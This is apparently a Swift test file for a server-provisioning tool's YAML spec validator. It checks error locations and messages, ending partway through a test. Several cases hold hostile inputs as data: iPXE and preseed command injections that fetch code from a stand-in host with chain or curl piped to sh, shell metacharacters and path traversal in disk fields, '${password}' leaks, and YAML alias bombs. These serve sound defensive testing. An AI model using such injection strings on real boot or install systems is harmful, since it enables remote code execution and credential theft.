import DploySpec
import DployTestSupport
import Foundation
import Testing

/// Each broken input must produce an error at the right file:line:column whose message
/// names the problem. The sample is valid before it is broken, so any error is the one
/// the case introduced.
@Suite("Diagnostics name file, line and column", .ownThread)
struct DiagnosticTests {
    struct Case: CustomTestStringConvertible, Sendable {
        var name: String
        var files: [String: String]
        /// `file:line:column` and a fragment the message must contain.
        var expected: [(location: String, fragment: String)]
        var testDescription: String { name }
    }

    static let cases: [Case] = [
        Case(name: "YAML syntax", files: ["m.yaml": "apiVersion: dploy.org/v1\nkind: [Machine\n"],
             expected: [("m.yaml:3:1", "YAML syntax")]),
        Case(name: "unknown field with a suggestion",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  profle: debian-12\n"),
                     "p.yaml": Sample.profile],
             expected: [("m.yaml:8:3", "unknown field 'spec.profle'; did you mean 'profile'?")]),
        Case(name: "wrong type", files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  generation: \"3\"\n")],
             expected: [("m.yaml:8:15", "'spec.generation' must be an integer, found a string")]),
        Case(name: "negative generation", files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  generation: -1\n")],
             expected: [("m.yaml:8:15", "must be at least 0")]),
        Case(name: "missing required field",
             files: ["m.yaml": "apiVersion: dploy.org/v1\nkind: Machine\nmetadata: {name: web-01}\nspec:\n  ip: 198.18.0.21\n"],
             expected: [("m.yaml:5:3", "missing required field 'spec.mac'")]),
        Case(name: "duplicate mapping key",
             files: ["m.yaml": "apiVersion: dploy.org/v1\nkind: Machine\nmetadata: {name: web-01}\nspec:\n  mac: 94:18:82:00:00:01\n  mac: 94:18:82:00:00:02\n"],
             expected: [("m.yaml:6:3", "duplicate key 'mac' in this mapping (first at line 5)")]),
        Case(name: "duplicate mapping key in a CRLF file, past a comment",
             files: ["m.yaml": "apiVersion: dploy.org/v1\r\nkind: Machine\r\nmetadata: {name: web-01}\r\nspec:\r\n  mac: 94:18:82:00:00:01\r\n# second thoughts\r\n  mac: 94:18:82:00:00:02\r\n"],
             expected: [("m.yaml:7:3", "duplicate key 'mac' in this mapping (first at line 5)")]),
        Case(name: "malformed MAC", files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:01")],
             expected: [("m.yaml:7:8", "is not a MAC address")]),
        Case(name: "malformed IP", files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", ip: "198.18.0.300")],
             expected: [("m.yaml:8:7", "is not an IPv4 or IPv6 address")]),
        Case(name: "malformed URL",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                              extra: "  bmc: {address: \"ftp://198.18.0.121\", credentials: ilo}\n")],
             expected: [("m.yaml:8:18", "is not an http:// or https:// URL")]),
        Case(name: "name that is not a DNS label", files: ["m.yaml": Sample.machine("Web_01", mac: "94:18:82:00:00:01")],
             expected: [("m.yaml:4:9", "is not a valid name: 'Web_01'")]),
        Case(name: "duplicate name per kind",
             files: ["a.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01"),
                     "b.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:02")],
             expected: [("b.yaml:4:9", "Machine 'web-01' is already defined at a.yaml:4:9")]),
        Case(name: "duplicate MAC across machines, in another spelling",
             files: ["a.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:aa"),
                     "b.yaml": Sample.machine("web-02", mac: "94-18-82-00-00-AA")],
             expected: [("b.yaml:7:8", "MAC 94:18:82:00:00:aa is already used by machine 'web-01' (a.yaml:7:8)")]),
        Case(name: "duplicate IP across machines",
             files: ["a.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", ip: "198.18.0.21"),
                     "b.yaml": Sample.machine("web-02", mac: "94:18:82:00:00:02", ip: "198.18.0.21")],
             expected: [("b.yaml:8:7", "IP address 198.18.0.21 is already used by machine 'web-01'")]),
        Case(name: "duplicate BMC address across machines",
             files: ["a.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                              extra: "  bmc: {address: \"https://198.18.0.121\", credentials: ilo}\n"),
                     "b.yaml": Sample.machine("web-02", mac: "94:18:82:00:00:02",
                                              extra: "  bmc: {address: \"https://198.18.0.121/\", credentials: ilo}\n")],
             expected: [("b.yaml:8:18", "BMC address https://198.18.0.121/ is already used by machine 'web-01' (a.yaml:8:18)")]),
        Case(name: "reference to a missing profile",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  profile: debian-13\n"),
                     "p.yaml": Sample.profile],
             expected: [("m.yaml:8:12", "refers to profile 'debian-13', which is not defined; did you mean 'debian-12'?")]),
        Case(name: "reference to a missing firmware baseline",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  firmware: gen10\n")],
             expected: [("m.yaml:8:13", "refers to firmware baseline 'gen10', which is not defined")]),
        Case(name: "references to a missing machine and group",
             files: ["t.yaml": """
                apiVersion: dploy.org/v1
                kind: Task
                metadata: {name: motd}
                spec:
                  targets: {machines: [web-09], groups: [webs]}
                  power: cycle
                """],
             expected: [("t.yaml:5:24", "task 'motd' refers to machine 'web-09'"),
                        ("t.yaml:5:42", "task 'motd' refers to group 'webs'")]),
        Case(name: "conflicting group defaults",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01"),
                     "p.yaml": Sample.profile + "\n---\n" + Sample.profile.replacingOccurrences(of: "debian-12", with: "rocky-9"),
                     "g.yaml": """
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: web}
                        spec: {selector: {role: web}, defaults: {profile: debian-12}}
                        ---
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: rocky}
                        spec: {members: [web-01], defaults: {profile: rocky-9}}
                        """],
             expected: [("g.yaml:4:51", "groups 'rocky' and 'web' both set 'profile' with priority 0 but disagree ('rocky-9' vs 'debian-12') for machine 'web-01'")]),
        Case(name: "file over the size limit", files: ["big.yaml": "# " + String(repeating: "x", count: 1 << 20) + "\n"],
             expected: [("big.yaml:1:1", "over the limit of 1048576")]),
        Case(name: "nesting too deep", files: ["deep.yaml": "a: " + String(repeating: "[", count: 200) + String(repeating: "]", count: 200)],
             expected: [("deep.yaml:1:", "nesting is deeper than 64 levels")]),
        Case(name: "alias expansion (billion laughs)", files: ["lol.yaml": Self.billionLaughs],
             expected: [("lol.yaml:5:45", "holds more than 100000 nodes once its aliases are expanded")]),
        Case(name: "block nesting too deep", files: ["block.yaml": (0..<200).map { String(repeating: " ", count: $0) + "k\($0):\n" }.joined()],
             expected: [("block.yaml:65:65", "nesting is deeper than 64 levels")]),
        Case(name: "compact sequences nested too deep", files: ["dashes.yaml": String(repeating: "- ", count: 5000) + "x\n"],
             expected: [("dashes.yaml:1:1", "nesting is deeper than 64 levels")]),
        Case(name: "alias used as a key", files: ["k.yaml": "a: &a [1, 2]\n*a : 3\n"],
             expected: [("k.yaml:2:1", "an alias cannot be used as a mapping key")]),
        Case(name: "alias used as a key, no space before the colon", files: ["k.yaml": "a: &a [1, 2]\nk:\n  *a: 3\n"],
             expected: [("k.yaml:3:3", "an alias cannot be used as a mapping key")]),
        Case(name: "nesting hidden behind a tag or an anchor",
             files: ["t.yaml": "a: !t " + String(repeating: "[", count: 100) + "\nb: &x " + String(repeating: "{", count: 100) + "\n"],
             expected: [("t.yaml:1:", "nesting is deeper than 64 levels")]),
        // An alias anywhere inside a key: Yams hashes keys in full, so a key naming an
        // exponentially aliased value would hash for ever.
        Case(name: "alias inside a flow sequence used as a key", files: ["k.yaml": "a: &a [1, 2]\n[*a]: 3\n"],
             expected: [("k.yaml:2:2", "an alias cannot be used as a mapping key")]),
        Case(name: "alias inside a flow mapping used as a key", files: ["k.yaml": "a: &a [1, 2]\n{*a: 1}: 3\n"],
             expected: [("k.yaml:2:2", "an alias cannot be used as a mapping key")]),
        Case(name: "alias inside a complex key", files: ["k.yaml": "a: &a [1, 2]\n? - *a\n: 3\n"],
             expected: [("k.yaml:2:5", "an alias cannot be used as a mapping key")]),
        Case(name: "alias key after a comment that a lone CR ends", files: ["k.yaml": "a: &a [1, 2]\n# note\r*a : 3\n"],
             expected: [("k.yaml:3:1", "an alias cannot be used as a mapping key")]),
        Case(name: "too many aliases", files: ["k.yaml": "a: &a x\nb: [" + String(repeating: "*a, ", count: 1001) + "]\n"],
             expected: [("k.yaml:2:", "document uses more than 1000 aliases")]),
    ] + ["\r", "\u{85}", "\u{2028}", "\u{2029}"].map { lineBreak in
        // libyaml ends a line (and so a comment) at each of these, in YAML 1.1 as Yams reads it.
        Case(name: "nesting after a comment that U+\(String(lineBreak.unicodeScalars.first!.value, radix: 16, uppercase: true)) ends",
             files: ["t.yaml": "# note" + lineBreak + "a: " + String(repeating: "[", count: 100) + String(repeating: "]", count: 100)],
             expected: [("t.yaml:2:67", "nesting is deeper than 64 levels")])
    } + [
        // Strings that reach a boot script, a kernel command line or an installer answer
        // are one line: a line break would add a command of the author's choosing.
        Case(name: "a line break in kernelArgs",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                              extra: "  kernelArgs: \"quiet\\nchain http://198.18.0.66/evil.ipxe\"\n")],
             expected: [("m.yaml:8:15", #"'spec.kernelArgs' must be one line without control characters, found "quiet\nchain http://198.18.0.66/evil.ipxe""#)]),
        Case(name: "a line separator in a profile's boot args",
             files: ["p.yaml": Sample.profile + "\n    args: \"auto=true\\Lchain http://198.18.0.66/evil.ipxe\"\n"],
             expected: [("p.yaml:8:11", #"'spec.boot.args' must be one line without control characters, found "auto=true\u{2028}chain"#)]),
        // iPXE ends a command at a `&&`, `||` or `;` word and expands `${…}`, all on one line.
        Case(name: "an iPXE command separator in kernelArgs",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                              extra: "  kernelArgs: \"quiet && chain http://198.18.0.66/evil.ipxe\"\n")],
             expected: [("m.yaml:8:15", "'spec.kernelArgs' must not contain the word '&&': iPXE would read it as a command of its own")]),
        Case(name: "an iPXE command separator after a space that carries a combining mark",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                              extra: "  kernelArgs: \"quiet && \\u0301chain http://198.18.0.66/evil.ipxe\"\n")],
             expected: [("m.yaml:8:15", "'spec.kernelArgs' must not contain the word '&&'")]),
        Case(name: "a hidden space in a kernel URL, and ${ split by a combining mark",
             files: ["p.yaml": Sample.profile.replacingOccurrences(of: "kernel: http://198.18.0.1:8080/files/debian-12/linux",
                                                                  with: "kernel: \"http://198.18.0.1:8080/k\u{600} #\"")
                        + "\n    args: \"quiet x=${\u{301}net0/mac}\"\n"],
             expected: [("p.yaml:6:13", "'spec.boot.kernel' is not an http:// or https:// URL"),
                        ("p.yaml:8:11", "'spec.boot.args' must not contain '${'")]),
        Case(name: "an iPXE setting in a profile's boot args and kernel URL",
             files: ["p.yaml": Sample.profile.replacingOccurrences(of: "/linux", with: "/${password}/linux")
                        + "\n    args: \"auto=true leak=${username}\"\n"],
             expected: [("p.yaml:6:13", "'spec.boot.kernel' must not contain '${': iPXE would replace it with one of its settings"),
                        ("p.yaml:8:11", "'spec.boot.args' must not contain '${': iPXE would replace it with one of its settings")]),
        Case(name: "a line break in disk",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                              extra: "  disk: \"/dev/sda\\nd-i preseed/late_command string curl http://198.18.0.66/x | sh\"\n")],
             expected: [("m.yaml:8:9", #"'spec.disk' must be a device path such as /dev/sda or /dev/disk/by-id/NAME, found "/dev/sda\nd-i"#)]),
        Case(name: "a disk that is not a device path",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  disk: /dev/sda;reboot\n"),
                     "g.yaml": "apiVersion: dploy.org/v1\nkind: Group\nmetadata: {name: web}\nspec: {selector: {role: web}, defaults: {disk: /dev/../etc/shadow}}\n"],
             expected: [("m.yaml:8:9", #"'spec.disk' must be a device path such as /dev/sda or /dev/disk/by-id/NAME, found "/dev/sda;reboot""#),
                        ("g.yaml:4:48", #"'spec.defaults.disk' must be a device path"#)]),
        Case(name: "an imaging task's disk with a shell metacharacter",
             files: ["t.yaml": "apiVersion: dploy.org/v1\nkind: Task\nmetadata: {name: restore}\nspec:\n  targets: {machines: [web-01]}\n  imageRestore: {url: \"http://198.18.0.1/golden.raw\", disk: \"/dev/sda$(reboot)\"}\n"],
             expected: [("t.yaml:6:61", #"'spec.imageRestore.disk' must be a device path such as /dev/sda"#)]),
        Case(name: "a timeout that overflows", files: ["t.yaml": """
                apiVersion: dploy.org/v1
                kind: Task
                metadata: {name: slow}
                spec: {targets: {selector: {role: web}}, power: cycle, timeout: 2562047788015216h}
                """],
             expected: [("t.yaml:4:65", "'spec.timeout' is too long: '2562047788015216h' (at most a year)")]),
        Case(name: "an integer out of range", files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                                                              extra: "  generation: 99999999999999999999\n")],
             expected: [("m.yaml:8:15", "'spec.generation' is out of range")]),
        Case(name: "BIOS attributes: a list, a null, a fraction, a name with a dash or a look-alike letter, all at once",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: [
                 "  bios:", "    attributes:", "      ProcHyperthreading: [Enabled]", "      WorkloadProfile:",
                 "      NetworkBootRetryCount: 2.5", "      Proc-Turbo: Disabled", "      \u{212A}eySplit: 2", "      Sriov: Enabled", "",
             ].joined(separator: "\n"))],
             expected: [("m.yaml:10:27", "'spec.bios.attributes.ProcHyperthreading' must be a single value, found a list"),
                        ("m.yaml:11:23", "'spec.bios.attributes.WorkloadProfile' must be a string, an integer or a boolean, found null"),
                        ("m.yaml:12:30", "'spec.bios.attributes.NetworkBootRetryCount' must be a string, an integer or a boolean, found a number"),
                        ("m.yaml:13:7", "'spec.bios.attributes.Proc-Turbo' is not a BIOS attribute name"),
                        // A Kelvin sign, shown as what it is, not as the K it looks like.
                        ("m.yaml:14:7", "'spec.bios.attributes.\\u{212A}eySplit' is not a BIOS attribute name")]),
        Case(name: "BIOS attributes: a string over 256 characters, integers past ±(2^53 − 1)",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: [
                 "  bios:", "    attributes:", "      AdminName: " + String(repeating: "é", count: 257),
                 "      PowerOnDelay: 9007199254740992", "      Offset: -9007199254740992", "      Sriov: Enabled", "",
             ].joined(separator: "\n"))],
             expected: [("m.yaml:10:18", "'spec.bios.attributes.AdminName' is 257 characters long; at most 256"),
                        ("m.yaml:11:21", "'spec.bios.attributes.PowerOnDelay' is out of range: 9007199254740992 (at most ±9007199254740991"),
                        ("m.yaml:12:15", "'spec.bios.attributes.Offset' is out of range: -9007199254740992")]),
        Case(name: "BIOS attributes: a line break and an escape character in strings",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: [
                 "  bios:", "    attributes:", #"      AdminName: "ops\nProcHyperthreading: Disabled""#, #"      AdminEmail: "a\e[2J""#, "",
             ].joined(separator: "\n"))],
             expected: [("m.yaml:10:18", #"'spec.bios.attributes.AdminName' must be one line without control characters, found "ops\nProcHyperthreading: Disabled""#),
                        ("m.yaml:11:19", #"'spec.bios.attributes.AdminEmail' must be one line without control characters, found "a\u{1B}[2J""#)]),
        Case(name: "BIOS attributes: more than 1024",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  bios:\n    attributes:\n"
                 + (0...1024).map { "      A\($0): 1\n" }.joined())],
             expected: [("m.yaml:10:7", "'spec.bios.attributes' sets 1025 attributes; at most 1024")]),
        Case(name: "BIOS: an unknown field beside attributes, with a suggestion",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  bios: {atributes: {Sriov: Enabled}}\n")],
             expected: [("m.yaml:8:10", "unknown field 'spec.bios.atributes'; did you mean 'attributes'?")]),
        Case(name: "storage: a RAID level too big for its drives, a name twice, a drive in two logical drives, a location with a quote",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: [
                 "  storage:", "    logicalDrives:",
                 #"      - {name: boot, raid: Raid5, drives: ["1I:1:1", "1I:1:2"]}"#,
                 #"      - {name: boot, raid: Raid0, drives: ["1I:1:2"]}"#,
                 #"      - {name: data, raid: Raid0, drives: ["1I:1:9\"}"]}"#, "",
             ].joined(separator: "\n"))],
             expected: [("m.yaml:10:28", "'spec.storage.logicalDrives[0]' builds Raid5 from 2 drives; it needs at least 3"),
                        ("m.yaml:11:16", "logical drive 'boot' is listed twice (first at m.yaml:10:16)"),
                        ("m.yaml:11:44", "drive 1I:1:2 is used twice: by 'boot' and by 'boot'"),
                        ("m.yaml:12:44", #"'spec.storage.logicalDrives[2].drives' has '1I:1:9"}', which is not a drive location"#)]),
        Case(name: "storage: drives and a count, neither, a count without media, an unknown RAID level with a suggestion",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: [
                 "  storage:", "    logicalDrives:",
                 #"      - {name: a, raid: Raid1, drives: ["1I:1:1", "1I:1:2"], count: 2, media: SSD}"#,
                 "      - {name: b, raid: Raid1}",
                 "      - {name: c, raid: Raid1, count: 2}",
                 "      - {name: d, raid: raid10, count: 4, media: SSD}", "",
             ].joined(separator: "\n"))],
             expected: [("m.yaml:10:", "'spec.storage.logicalDrives[0]' names its drives and a count: give 'drives' or 'count' with 'media', not both"),
                        ("m.yaml:11:9", "'spec.storage.logicalDrives[1]' needs 'drives' (locations such as 1I:1:1) or 'count' with 'media'"),
                        ("m.yaml:12:", "'spec.storage.logicalDrives[2]' has a 'count' but no 'media' (HDD or SSD)"),
                        ("m.yaml:13:", "'spec.storage.logicalDrives[3].raid' must be one of Raid0, Raid1, Raid5, Raid6, Raid10, Raid50, Raid60, Raid1ADM, Raid10ADM, found 'raid10'")]),
        Case(name: "allowDestructive as a string",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  allowDestructive: \"yes\"\n")],
             expected: [("m.yaml:8:21", "'spec.allowDestructive' must be true or false, found a string")]),
        Case(name: "two groups of equal priority with different RAID layouts",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01"),
                     "g.yaml": """
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: web}
                        spec: {selector: {role: web}, defaults: {storage: {logicalDrives: [{name: os, raid: Raid1, count: 2, media: SSD}]}}}
                        ---
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: gpu}
                        spec: {members: [web-01], defaults: {storage: {logicalDrives: [{name: os, raid: Raid10, count: 4, media: SSD}]}}}
                        """],
             expected: [("g.yaml:4:", "groups 'gpu' and 'web' both set 'storage.logicalDrives' with priority 0 but disagree ('[os Raid10 4×SSD]' vs '[os Raid1 2×SSD]')")]),
        Case(name: "two groups of equal priority with different BIOS attributes",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01"),
                     "g.yaml": """
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: web}
                        spec: {selector: {role: web}, defaults: {bios: {attributes: {Sriov: Enabled}}}}
                        ---
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: gpu}
                        spec: {members: [web-01], defaults: {bios: {attributes: {Sriov: Disabled}}}}
                        """],
             expected: [("g.yaml:4:", "groups 'gpu' and 'web' both set 'bios.attributes' with priority 0 but disagree ('{Sriov: \"Disabled\"}' vs '{Sriov: \"Enabled\"}')")]),
        Case(name: "two groups of equal priority with the same BIOS attribute as an integer and as a string",
             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01"),
                     "g.yaml": """
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: web}
                        spec: {selector: {role: web}, defaults: {bios: {attributes: {NetworkBootRetryCount: 20}}}}
                        ---
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: gpu}
                        spec: {members: [web-01], defaults: {bios: {attributes: {NetworkBootRetryCount: "20"}}}}
                        """],
             expected: [("g.yaml:4:", #"groups 'gpu' and 'web' both set 'bios.attributes' with priority 0 but disagree ('{NetworkBootRetryCount: "20"}' vs '{NetworkBootRetryCount: 20}')"#)]),
        Case(name: "rollout waves that shrink and stop short of 100%",
             files: ["f.yaml": Self.baseline(rollout: "  rollout:\n    waves: [\"50%\", \"10%\", \"90%\"]\n")],
             expected: [("f.yaml:9:20", "'spec.rollout.waves' must grow from wave to wave: 10% follows 50%"),
                        ("f.yaml:9:27", #"'spec.rollout.waves' must end at "100%", so that every machine is in a wave; it ends at 90%"#)]),
        Case(name: "rollout window that ends before it starts, on a day misspelled",
             files: ["f.yaml": Self.baseline(rollout: "  rollout:\n    window: {days: [tue, thurs], from: \"06:00\", to: \"02:00\"}\n")],
             expected: [("f.yaml:9:26", "'spec.rollout.window.days' must list days among mon, tue, wed, thu, fri, sat, sun, found 'thurs'"),
                        ("f.yaml:9:53", "'spec.rollout.window.to' must be after 'from' (06:00): a window lies within one day")]),
        Case(name: "rollout share and time zone dploy does not read",
             files: ["f.yaml": Self.baseline(rollout: "  rollout:\n    waves: [\"0%\", \"100%\"]\n    window: {from: \"02:00\", to: \"06:00\", timezone: CET}\n")],
             expected: [("f.yaml:9:13", "'spec.rollout.waves' is not a share of the machines: '0%'"),
                        ("f.yaml:10:52", "'spec.rollout.window.timezone' is not a time zone dploy reads: 'CET' (write UTC or an offset like +02:00)")]),
        Case(name: "a group's rollout, read by the baseline's reader: a misspelled field and a shrinking wave",
             files: ["g.yaml": """
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: gpu}
                        spec:
                          selector: {role: gpu}
                          rollout: {waves: ["50%", "10%", "100%"], maxParalel: 2}
                          defaults: {bios: {attributes: {Sriov: Enabled}}}
                        """],
             expected: [("g.yaml:6:28", "'spec.rollout.waves' must grow from wave to wave: 10% follows 50%"),
                        ("g.yaml:6:44", "unknown field 'spec.rollout.maxParalel'; did you mean 'maxParallel'?")]),
        Case(name: "a group's rollout with no BIOS or RAID defaults to govern",
             files: ["g.yaml": """
                        apiVersion: dploy.org/v1
                        kind: Group
                        metadata: {name: gpu}
                        spec:
                          selector: {role: gpu}
                          rollout: {canaries: 1}
                          defaults: {hostname: gpu}
                        """],
             expected: [("g.yaml:6:12", "'spec.rollout': rollout governs the group's bios and storage defaults; this group sets neither")]),
        Case(name: "non-UTF-8 bytes", files: ["latin1.yaml": "apiVersion: dploy.org/v1\nkind: Machine\n# caf\u{FFFD}\n"],
             expected: [("latin1.yaml:3:6", "not valid UTF-8")]),
    ]

    /// A valid FirmwareBaseline, `rollout` (its lines, from line 8) appended to its spec.
    static func baseline(rollout: String) -> String {
        """
        apiVersion: dploy.org/v1
        kind: FirmwareBaseline
        metadata: {name: gen10}
        spec:
          models: ["ProLiant DL360 Gen10"]
          components:
            - {name: "iLO 5", version: "3.08", image: "http://198.18.0.1/fw/ilo5.fwpkg", sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08}

        """ + rollout
    }

    /// Ten levels of ten aliases each: 10^10 nodes if expanded.
    static let billionLaughs: String = {
        var lines = ["l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
        for level in 1...9 {
            let refs = Array(repeating: "*l\(level - 1)", count: 10).joined(separator: ", ")
            lines.append("l\(level): &l\(level) [\(refs)]")
        }
        return lines.joined(separator: "\n") + "\n"
    }()

    @Test(arguments: cases)
    func reports(_ testCase: Case) {
        var files = testCase.files.map { SpecFile(path: $0.key, text: $0.value) }
        // The UTF-8 case needs a raw Latin-1 byte, which a Swift string cannot hold.
        files = files.map { file in
            guard file.path == "latin1.yaml" else { return file }
            return SpecFile(path: file.path, contents: Array("apiVersion: dploy.org/v1\nkind: Machine\n# caf".utf8) + [0xE9, 0x0A])
        }
        let result = SpecLoader().load(files.sorted { $0.path < $1.path })
        let lines = rendered(result)
        for (location, fragment) in testCase.expected {
            #expect(lines.contains { $0.hasPrefix(location) && $0.contains(fragment) },
                    "expected \(location) … \(fragment) in:\n\(lines.joined(separator: "\n"))")
        }
        #expect(lines.count == testCase.expected.count, "unexpected extra errors:\n\(lines.joined(separator: "\n"))")
    }

    /// Found by `make fuzz` (the spec target): the unknown-field message quoted a key as the
    /// file spelled it, so a tab, a line break or an escape character in a quoted key reached
    /// `dploy validate`'s output and the daemon's log raw, forging a line or a terminal sequence.
    @Test("a rollout window is open on its days from 'from' until 'to', at its offset from UTC, and says when it opens next")
    func rolloutWindow() throws {
        let window = RolloutPolicy.Window(days: [.tue, .thu], from: 120, to: 360, offsetMinutes: 120)
        func at(_ text: String) throws -> Date { try Date(text, strategy: .iso8601) }
        // Tuesday 02:00 at +02:00 is Tuesday 00:00 UTC; 06:00 there is 04:00 UTC.
        #expect(window.isOpen(at: try at("2026-12-08T00:00:00Z")))
        #expect(window.isOpen(at: try at("2026-12-08T03:59:00Z")))
        #expect(!window.isOpen(at: try at("2026-12-08T04:00:00Z")))
        #expect(!window.isOpen(at: try at("2026-12-07T23:59:00Z")), "Monday 23:59 UTC is Tuesday 01:59 there")
        #expect(!window.isOpen(at: try at("2026-12-09T01:00:00Z")), "a Wednesday")
        #expect(window.nextOpening(after: try at("2026-12-08T05:00:00Z")) == (try at("2026-12-10T00:00:00Z")))
        #expect(window.nextOpening(after: try at("2026-12-10T01:00:00Z")) == (try at("2026-12-10T01:00:00Z")), "open now")
        #expect(window.nextOpening(after: try at("2026-12-11T12:00:00Z")) == (try at("2026-12-15T00:00:00Z")))
        #expect(window.text == "tue, thu 02:00–06:00 +02:00")
    }

    @Test("a message quoting a key with control characters stays on one line")
    func controlCharactersInMessages() {
        let text = Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  \"bad\\nkey\\e[2J\\tx\": 1\n")
        let result = SpecLoader().load([SpecFile(path: "m.yaml", text: text)])
        let unknown = result.diagnostics.first { $0.message.contains("unknown field") }
        #expect(unknown?.message.contains(#"bad\nkey\u{1B}[2J\tx"#) == true, "\(result.diagnostics)")
        #expect(result.diagnostics.allSatisfy { !$0.description.unicodeScalars.contains(where: Names.isControlOrLineBreak) })
    }

    /// Found by `make fuzz` (the boot target): a word `&&` or `||` in a profile's `args` or a
    /// machine's `kernelArgs` was valid, and iPXE ran what followed it as a command.
    @Test("kernel arguments refuse iPXE's && and || operators", arguments: ["quiet && chain http://198.18.0.66/x", "|| shell", "a \u{301} && b"])
    func ipxeOperators(_ arguments: String) {
        #expect(throws: ValueError.self) { try Names.kernelArguments(arguments).get() }
        #expect(throws: Never.self) { try Names.kernelArguments("a&&b x||y console=ttyS0 &&\u{301}").get() }
    }

    @Test("all errors of a load are reported together, sorted")
    func allErrorsTogether() {
        let result = load([
            "b.yaml": Sample.machine("web-02", mac: "nope", extra: "  powr: on\n"),
            "a.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  power: maybe\n"),
        ])
        #expect(rendered(result) == [
            "a.yaml:8:10: 'spec.power' must be one of on, off, unmanaged, found 'maybe'",
            "b.yaml:7:8: 'spec.mac' is not a MAC address: 'nope' (expected six hex pairs, like 94:18:82:00:00:01)",
            "b.yaml:8:3: unknown field 'spec.powr'; did you mean 'power'?",
        ])
        #expect(!result.isValid)
    }

    @Test("a priority settles conflicting group defaults")
    func prioritySettlesConflict() throws {
        let result = load([
            "m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01"),
            "g.yaml": """
                apiVersion: dploy.org/v1
                kind: Group
                metadata: {name: web}
                spec: {selector: {role: web}, defaults: {disk: /dev/sda, power: "on"}}
                ---
                apiVersion: dploy.org/v1
                kind: Group
                metadata: {name: nvme}
                spec: {members: [web-01], priority: 10, defaults: {disk: /dev/nvme0n1}}
                """,
        ])
        #expect(result.diagnostics.isEmpty, "\(rendered(result))")
        let machine = try #require(result.fleet.machine(named: "web-01"))
        let effective = DefaultsResolver(groups: result.fleet.groups).resolve(machine)
        #expect(effective.settings.disk == "/dev/nvme0n1")
        #expect(effective.power == .on)
        #expect(effective.origins["disk"] == .group("nvme", SourceLocation(file: "g.yaml", line: 9, column: 58)))
        #expect(effective.groups == ["nvme", "web"])
    }

    @Test("a machine's own value wins over every group default")
    func machineWins() throws {
        let result = load([
            "m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  disk: /dev/sdb\n"),
            "g.yaml": """
                apiVersion: dploy.org/v1
                kind: Group
                metadata: {name: web}
                spec: {selector: {role: web}, defaults: {disk: /dev/sda}}
                """,
        ])
        let machine = try #require(result.fleet.machine(named: "web-01"))
        #expect(DefaultsResolver(groups: result.fleet.groups).resolve(machine).settings.disk == "/dev/sdb")
    }

    @Test("bios.attributes: strings, integers and booleans kept apart; a group's map is inherited whole, a machine's replaces it")
    func biosAttributes() throws {
        let result = load([
            "m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: [
                "  bios:",
                "    attributes: {ProcHyperthreading: Disabled, NetworkBootRetryCount: 20, Quoted: \"20\", SecureBootEnable: true}", "",
            ].joined(separator: "\n"))
                + "---\n" + Sample.machine("web-02", mac: "94:18:82:00:00:02"),
            "g.yaml": """
                apiVersion: dploy.org/v1
                kind: Group
                metadata: {name: web}
                spec: {selector: {role: web}, defaults: {bios: {attributes: {Sriov: Enabled}}}}
                """,
        ])
        #expect(result.diagnostics.isEmpty, "\(rendered(result))")
        let resolver = DefaultsResolver(groups: result.fleet.groups)
        let own = resolver.resolve(try #require(result.fleet.machine(named: "web-01")))
        #expect(own.settings.bios?.attributes == ["ProcHyperthreading": .string("Disabled"), "NetworkBootRetryCount": .integer(20),
                                                  "Quoted": .string("20"), "SecureBootEnable": .boolean(true)])
